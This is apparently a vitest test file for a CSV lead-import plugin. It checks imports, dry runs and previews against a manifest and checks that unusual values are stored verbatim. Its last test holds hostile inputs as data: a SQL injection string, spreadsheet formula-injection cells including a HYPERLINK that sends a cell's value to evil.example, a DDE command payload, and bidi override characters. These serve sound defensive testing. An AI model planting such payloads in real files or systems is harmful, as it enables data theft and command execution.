import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createWorkspace } from '@leadnest/core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type TestServer, testServer } from '../../../server/src/testing.ts'
import { csv } from './index.ts'
import { type Case, cases, folder } from './testing/corpus.ts'

let server: TestServer
beforeAll(async () => {
  server = await testServer({ plugins: [csv()] })
})
afterAll(() => server.close())

/** A workspace of its own for each file. */
async function desk() {
  const { id } = await createWorkspace(server.nest, { name: 'Corpus' })
  const key = await server.nest.key({ workspaceId: id })
  const send = (file: string, query = '', route = 'POST /v1/imports') =>
    server.request(`${route}?name=${file}${query}`, {
      key,
      raw: readFileSync(join(folder, file)),
      headers: { 'content-type': 'text/csv' },
    })
  const leads = async () => {
    const { json } = await server.request('GET /v1/leads?limit=200', { key })
    return json.data.sort((one: { email: string }, other: { email: string }) => (one.email < other.email ? -1 : 1))
  }
  return { key, send, leads }
}

/** What the manifest says of a file, checked on an answer. */
function expectOutcome(
  { status, json }: { status: number; json: Record<string, unknown> },
  { expect: told }: Case,
): void {
  if (told.job === null) {
    expect({ status, code: json.code }).toEqual({ status: 422, code: told.code })
    return
  }
  expect(status).toBe(200)
  const { total, created, updated, skipped, failed, errors, error } = json as Record<string, number> & {
    errors: { row: number; line: number; code: string; detail: string }[]
    error: { code: string; detail: string; row?: number } | null
  }
  expect(json.status).toBe(told.job === 'failed' ? 'failed' : 'succeeded')
  if (told.job === 'failed') {
    expect({ code: error!.code, created }).toEqual({ code: told.code, created: 0 })
    expect(error!.detail.length).toBeGreaterThan(10)
    if (told.at_row !== undefined) expect(error!.row).toBe(told.at_row)
    return
  }
  expect(total).toBe(created! + updated! + skipped! + failed!)
  if (told.rows !== undefined) expect(total).toBe(told.rows)
  if (told.imported !== undefined) expect(created).toBe(told.imported)
  if (told.min_imported !== undefined) expect(created).toBeGreaterThanOrEqual(told.min_imported)
  if (told.skipped !== undefined) expect(skipped).toBe(told.skipped)
  expect(failed).toBe(told.failed ?? (told.job === 'completed' ? 0 : failed))
  if (told.job === 'completed_with_errors') expect(failed).toBeGreaterThan(0)
  expect(errors.map(({ row, code }) => ({ row, code }))).toMatchObject(told.errors ?? errors.map(() => ({})))
}

describe.each(cases)('$file', (one) => {
  test('is answered as the manifest says, and again makes nobody', async () => {
    const { send, leads } = await desk()
    const began = performance.now()
    const first = await send(one.file)
    expectOutcome(first, one)
    const known = await leads()
    expect(known).toHaveLength(first.json.created ?? 0)
    const again = await send(one.file)
    expect(again.json.created ?? 0).toBe(0)
    expect((await leads()).length).toBe(known.length)
    // Two imports, on a machine that does other things too.
    expect(performance.now() - began).toBeLessThan(8000)
  })

  test('a dry run says the same, and makes nobody; so does the preview', async () => {
    const { send, leads } = await desk()
    expectOutcome(await send(one.file, '&dryRun=true'), one)
    const preview = await send(one.file, '', 'POST /v1/imports/preview')
    if (one.expect.job === null) expect(preview.json.code).toBe(one.expect.code)
    else if (one.expect.job !== 'failed') {
      const created = preview.json.rows.filter(({ outcome }: { outcome: string }) => outcome === 'created')
      expect([preview.json.error, created.length]).toEqual([null, one.expect.imported ?? created.length])
    }
    expect(await leads()).toEqual([])
  })
})

test('what the files say is stored as it is', async () => {
  const stored = async (file: string, query = '') => {
    const { send, leads } = await desk()
    await send(file, query)
    return leads()
  }
  expect(await stored('10-windows-1252.csv', '&encoding=windows-1252')).toMatchObject([{ firstName: 'Zoë' }])
  expect(await stored('64-utf16le-no-bom.csv', '&encoding=utf-16le')).toMatchObject([{ firstName: 'Zoe' }])
  expect(await stored('07-utf16le-bom-tab.csv')).toMatchObject([{ firstName: 'Zoë 你好' }])
  expect(await stored('15-bidi-zero-width.csv')).toMatchObject([{ firstName: '\u202eevil\u202c\u200b' }])
  expect(await stored('16-quotes-newlines.csv')).toMatchObject([
    { firstName: 'He said "hi"', lastName: 'Line1\nLine2\r\nLine3' },
    { firstName: 'a,b', lastName: ';x' },
  ])
  expect(await stored('44-sql-like.csv')).toMatchObject([
    { firstName: "Robert'); DROP TABLE leads;--" },
    { firstName: '\\N' },
    { firstName: '\\.' },
    { firstName: 'NULL' },
  ])
  expect(await stored('37-formula-cells.csv')).toMatchObject([
    { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', lastName: '+1+1' },
    { firstName: '@SUM(1)', lastName: '=1+1' },
    { firstName: "=cmd|' /C calc'!A0", lastName: '＝1+1' },
    { firstName: '-Anne', lastName: 'plain' },
  ])
  expect(await stored('85-shielded.csv')).toMatchObject([
    { firstName: '=1+1', company: "'=1+1" },
    { firstName: "'quoted'", company: "O'Neil" },
  ])
  expect(await stored('62-single-quotes.csv')).toMatchObject([{ firstName: "O'Neil" }, { firstName: 'Bob' }])
  expect(await stored('68-german.csv')).toMatchObject([
    { name: 'Zoë Müßig', phone: '+4930901820', company: 'Müller & Söhne' },
  ])
  expect(await stored('74-quote-within-plain.csv')).toMatchObject([
    { company: '5" disks' },
    { company: 'say "hi" to us' },
  ])
})
